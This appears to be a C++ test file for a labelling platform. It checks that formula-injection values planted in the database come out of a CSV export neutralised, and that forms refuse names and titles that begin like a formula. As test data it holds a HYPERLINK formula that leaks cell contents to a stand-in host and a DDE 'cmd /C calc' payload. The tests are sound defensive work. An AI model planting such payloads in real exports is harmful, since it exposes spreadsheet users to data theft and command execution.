// Formula injection (CSV injection) in the files people open in a spreadsheet: a value planted
// where no form checks it (SQL here, as an import or an old record would bring it) comes out of
// /labels.csv as text, and the forms refuse names and titles that begin like a formula, with the
// error beside the field and the input kept.

#include "../labelling/dossier_test_support.hpp"

#include "core/csv.hpp"

#include <gtest/gtest.h>

#include <sstream>

namespace essaim::test {
namespace {

using namespace labelling_fixtures;
using auth_support::contains;
using auth_support::execute_sql;
using auth_support::signed_in_actor;

//! The fields of the organisation form that a valid organisation needs.
Fields minimal_organisation(const std::string& name)
{
    return Fields{{"name", name}, {"ess_family", "association"}, {"commune_code", "42218"},
        {"actor_types", "porteur_de_projet"}};
}

//! Every record of a CSV body, parsed as a spreadsheet importer would split it.
std::vector<std::vector<std::string>> csv_records(const std::string& body)
{
    std::istringstream input(body);
    core::CsvReader reader(input);
    std::vector<std::vector<std::string>> records;
    core::CsvRecord record;
    for (auto status = reader.next(record); status != core::CsvStatus::End; status = reader.next(record)) {
        EXPECT_EQ(status, core::CsvStatus::Record) << reader.error().reason;
        records.push_back(record.fields);
    }
    return records;
}

TEST(FormulaInjection, LabelsCsvNeutralisesAFormulaPlantedInTheDatabase)
{
    const std::string formula = R"(=HYPERLINK("https://exemple.invalid/vol?d="&A1;"Voir le label"))";
    auto owner = signed_in_actor("formule-titulaire");
    auto organisation = published_organisation(owner, "Ruche Formule Injection");
    // Planted behind the form's back, as a register import or an older version could have stored it.
    execute_sql("UPDATE organisations SET name = " + quoted(formula) + " WHERE id = " + std::to_string(organisation));
    auto second = published_organisation(owner, "Ruche Seconde Injection");
    execute_sql("UPDATE organisations SET name = " + quoted("Ruche;@SUM(1+1)*cmd|' /C calc'!A0") + ", siren = '-1+22+333'"
        + " WHERE id = " + std::to_string(second));
    for (auto id : {organisation, second}) {
        auto call = call_with_form("Appel formule " + std::to_string(id), "ruche");
        ASSERT_GT(grant_label_of(dossier_in_state(call, id, owner.user_id, "labellise")), 0);
    }

    HttpClient visitor(TestPlatform::instance().port());
    auto csv = visitor.get("/labels.csv");
    ASSERT_EQ(csv.status, 200);
    // The planted value is there, as text a spreadsheet shows rather than runs.
    EXPECT_TRUE(contains(csv.body, "\"'=HYPERLINK(\"\"https://exemple.invalid/vol?d=\"\"&A1;\"\"Voir le label\"\")\""))
        << csv.body;
    EXPECT_FALSE(contains(csv.body, ",=HYPERLINK"));
    EXPECT_FALSE(contains(csv.body, ",-1+22+333"));
    // However a spreadsheet splits the file (on ',' as written; or, guessing another separator,
    // on ';' or tabs, taking quotes literally, so that any separator or line break may begin a
    // cell), no cell begins like a formula.
    std::size_t start = 0;
    for (std::size_t i = 0; i <= csv.body.size(); ++i) {
        if (i < csv.body.size() && std::string_view(",;\t\r\n").find(csv.body[i]) == std::string_view::npos)
            continue;
        auto cell = std::string_view(csv.body).substr(start, i - start);
        cell.remove_prefix(std::min(cell.find_first_not_of('"'), cell.size()));
        EXPECT_FALSE(core::spreadsheet_would_evaluate(cell)) << cell;
        start = i + 1;
    }
    int planted_rows = 0;
    for (const auto& row : csv_records(csv.body)) {
        if (row.size() > 3 && (row[2] == "'" + formula || row[2] == "Ruche;'@SUM(1+1)*cmd|' /C calc'!A0")) {
            ++planted_rows;
            if (row[2] != "'" + formula) {
                EXPECT_EQ(row[3], "'-1+22+333");
            }
        }
    }
    EXPECT_EQ(planted_rows, 2);
}

TEST(FormulaInjection, OrganisationFormRefusesANameThatBeginsLikeAFormula)
{
    auto member = signed_in_actor("formule-organisation");
    for (std::string name : {"=1+2 Association", "+Plus solidaire", "-Moins seuls", "@SOMME(A1:A9)"}) {
        auto response = member.client.post_form("/organisations/nouvelle", minimal_organisation(name));
        ASSERT_EQ(response.status, 422) << name;
        EXPECT_TRUE(contains(response.body, "id=\"name-erreur\">Le nom ne peut pas commencer par =, +, - ou @."))
            << name << response.body.substr(0, 3000);
        EXPECT_TRUE(contains(response.body, "value=\"" + name + "\"")) << name;
    }
    auto acronym = minimal_organisation("Association des Formules");
    acronym.emplace_back("acronym", "=A1");
    auto refused = member.client.post_form("/organisations/nouvelle", acronym);
    ASSERT_EQ(refused.status, 422);
    EXPECT_TRUE(contains(refused.body, "id=\"acronym-erreur\">Le sigle ne peut pas commencer par"));
    EXPECT_TRUE(contains(refused.body, "value=\"Association des Formules\""));
    // Nothing was created.
    EXPECT_TRUE(contains(member.client.get("/compte").body, "Vous n’êtes membre d’aucune organisation"));
    // A sign elsewhere than first is an ordinary name.
    EXPECT_EQ(member.client.post_form("/organisations/nouvelle", minimal_organisation("Ruche = abeilles + miel")).status, 303);
}

TEST(FormulaInjection, AStoredRegisterNameStaysEditableButCannotBeTypedAnew)
{
    // "+Simple" is the kind of name a register holds: its organisation must still be editable.
    auto owner = signed_in_actor("formule-registre");
    auto id = std::to_string(published_organisation(owner, "Nom provisoire"));
    execute_sql("UPDATE organisations SET name = '+Simple' WHERE id = " + id);
    auto kept = minimal_organisation("+Simple");
    kept.emplace_back("description", "Une présentation enfin écrite.");
    EXPECT_EQ(owner.client.post_form("/organisations/" + id + "/modifier", kept).status, 303);
    auto changed = owner.client.post_form("/organisations/" + id + "/modifier", minimal_organisation("@Simple"));
    ASSERT_EQ(changed.status, 422);
    EXPECT_TRUE(contains(changed.body, "id=\"name-erreur\">Le nom ne peut pas commencer par"));
    EXPECT_TRUE(contains(changed.body, "value=\"@Simple\""));
}

TEST(FormulaInjection, ProjectFormRefusesATitleThatBeginsLikeAFormula)
{
    auto owner = signed_in_actor("formule-projet");
    auto organisation = std::to_string(published_organisation(owner, "Organisation des Projets Formules"));
    Fields fields{{"title", "=HYPERLINK(A1)"}, {"stage", "experimentation"}, {"growth_mode", "croissance_organique"}};
    auto response = owner.client.post_form("/organisations/" + organisation + "/projets/nouveau", fields);
    ASSERT_EQ(response.status, 422);
    EXPECT_TRUE(contains(response.body, "Le titre ne peut pas commencer par =, +, - ou @.")) << response.body.substr(0, 3000);
    EXPECT_TRUE(contains(response.body, "value=\"=HYPERLINK(A1)\""));
}

} // namespace
} // namespace essaim::test
